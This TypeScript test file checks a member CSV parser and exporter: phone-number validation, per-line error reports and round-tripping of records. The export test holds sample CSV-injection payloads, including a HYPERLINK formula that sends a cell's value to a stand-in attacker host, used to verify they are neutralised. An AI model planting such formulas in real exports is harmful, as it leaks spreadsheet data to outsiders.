import { describe, expect, it } from "vitest";
import { parseCsv } from "./csv.js";
import { memberCsvLine, membersCsvHeader, parseMembersCsv, MEMBER_CSV_COLUMNS } from "./members-csv.js";
import type { StoredMember } from "./member-store.js";

describe("parseMembersCsv", () => {
  it("reads the documented columns in any order, with æøå and defaults for what is empty", () => {
    const parsed = parseMembersCsv(
      "display_name,msisdn,tier,member_id,enrolled_at\n" +
        "Åse,+47 912 34 567,Gull,K-1001,2025-05-17\n" +
        "Øyvind,004798765432,,,\n" +
        '"Bjørn ""Bamse""",4540112233,Sølv,,2025-01-02T08:30:00+01:00\n',
    );
    expect(parsed.problems).toEqual([]);
    expect([...parsed.columns].sort()).toEqual([
      "display_name",
      "enrolled_at",
      "member_id",
      "msisdn",
      "tier",
    ]);
    expect(parsed.records).toEqual([
      {
        line: 2,
        msisdn: "4791234567",
        displayName: "Åse",
        tier: "Gull",
        memberId: "K-1001",
        enrolledAt: Date.UTC(2025, 4, 17),
      },
      { line: 3, msisdn: "4798765432", displayName: "Øyvind" },
      {
        line: 4,
        msisdn: "4540112233",
        displayName: 'Bjørn "Bamse"',
        tier: "Sølv",
        enrolledAt: Date.UTC(2025, 0, 2, 7, 30),
      },
    ]);
  });

  it("reports every bad row with its line and every problem of the row", () => {
    const parsed = parseMembersCsv(
      [
        "msisdn,member_id,tier,enrolled_at,claims,sub",
        "4791234567,ok-1,,,,",
        "91234567,bad id!,,2026-02-30,,",
        "4.79123E+09,,,,[1],",
        ",,,,,",
        `4791234568,,${"x".repeat(33)},,"{""name"":""Kari""}",has space`,
        "4791234569,ok-1,,,",
      ].join("\n"),
    );
    expect(parsed.records.map((r) => r.line)).toEqual([2]);
    expect(parsed.problems).toEqual([
      {
        line: 3,
        problem: expect.stringMatching(/^msisdn: expected a phone number with its country code/) as unknown,
      },
      { line: 3, problem: expect.stringMatching(/^member_id: expected 1–64 characters/) as unknown },
      { line: 3, problem: expect.stringMatching(/^enrolled_at: expected an ISO 8601 date/) as unknown },
      {
        line: 4,
        problem: expect.stringMatching(/scientific notation: format the column as text/) as unknown,
      },
      { line: 4, problem: "claims: expected a JSON object" },
      { line: 5, problem: "msisdn: required" },
      { line: 6, problem: "tier: at most 32 characters" },
      { line: 6, problem: expect.stringMatching(/^sub: expected up to 200 visible ASCII/) as unknown },
      { line: 7, problem: "expected 6 fields, found 5" },
    ]);
  });

  it("never repeats a phone number in a problem", () => {
    const parsed = parseMembersCsv("msisdn\n12345\n4791234567\n47912345678901234\n");
    expect(parsed.problems).toHaveLength(2);
    expect(JSON.stringify(parsed.problems)).not.toMatch(/12345|4791234567/);
  });

  it("refuses a header without msisdn, with unknown or repeated columns", () => {
    expect(parseMembersCsv("phone,name\n1,2\n").problems).toEqual([
      {
        line: 1,
        problem: expect.stringMatching(
          /^unknown column\(s\): "phone", "name"; expected member_id, msisdn/,
        ) as unknown,
      },
      { line: 1, problem: "the header has no msisdn column" },
    ]);
    expect(parseMembersCsv("msisdn,tier,tier\n").problems).toEqual([
      { line: 1, problem: "column(s) named twice: tier" },
    ]);
    expect(parseMembersCsv("").problems).toEqual([
      { line: 1, problem: expect.stringContaining("empty") as unknown },
    ]);
  });

  it("reports a broken quote as its row's problem and reads the rows after it", () => {
    const parsed = parseMembersCsv('msisdn,display_name\n4791234567,"Kari\n4791234568,Åse\n');
    expect(parsed.problems).toEqual([{ line: 2, problem: "a quoted field is never closed" }]);
    expect(parsed.records).toEqual([{ line: 3, msisdn: "4791234568", displayName: "Åse" }]);
  });

  it("a header that cannot be read is the file's problem: no row is read", () => {
    expect(parseMembersCsv('msisdn,"display_name\n4791234567,Kari\n')).toEqual({
      columns: new Set(),
      records: [],
      problems: [{ line: 1, problem: "a quoted field is never closed" }],
    });
  });
});

describe("export lines", () => {
  it("neutralise spreadsheet formulas (OWASP CSV injection), and read back to the same values", () => {
    const formulas = [
      '=HYPERLINK("https://evil.example/?"&B2,"Klikk")',
      "+47 ring",
      "-1",
      "@SUM(A1)",
      "'quoted",
      "＝1+1",
    ];
    for (const value of formulas) {
      const member: StoredMember = {
        memberId: "K-1",
        msisdn: "4791234567",
        tier: value.slice(0, 32),
        displayName: value.slice(0, 32),
        ...(/^[\x21-\x7e]+$/.test(value.replace(/ /g, "")) ? { sub: value.replace(/ /g, "") } : {}),
        enrolledAt: 0,
        lastSeenAt: 0,
      };
      const line = memberCsvLine(member);
      const cells = parseCsv(line).records[0]?.fields ?? [];
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
      const parsed = parseMembersCsv(membersCsvHeader() + line);
      expect(parsed.problems).toEqual([]);
      const { line: _line, ...record } = parsed.records[0] ?? { line: 0 };
      expect(record).toEqual(member);
    }
  });

  it("write every column and read back to the same member", () => {
    const member: StoredMember = {
      memberId: "M0ABCDEFGH1",
      msisdn: "4791234567",
      sub: "c06c4afe-d9e1-4c5d-939a-177d752a0944",
      tier: "Gull",
      displayName: "Åse",
      claims: {
        name: "Åse Ærlig",
        given_name: "Åse",
        family_name: "Ærlig",
        address: { street_address: "Storgata 1, 2. etg", postal_code: "0155" },
      },
      enrolledAt: Date.UTC(2025, 4, 17, 10, 0, 0, 123),
      consentedAt: Date.UTC(2025, 4, 17, 10, 0, 0),
      lastSeenAt: Date.UTC(2026, 0, 2),
    };
    const text = membersCsvHeader() + memberCsvLine(member);
    expect(text.split("\r\n")[0]).toBe(MEMBER_CSV_COLUMNS.join(","));
    const parsed = parseMembersCsv(text);
    expect(parsed.problems).toEqual([]);
    const { line: _line, ...record } = parsed.records[0] ?? { line: 0 };
    expect(record).toEqual(member);
  });
});
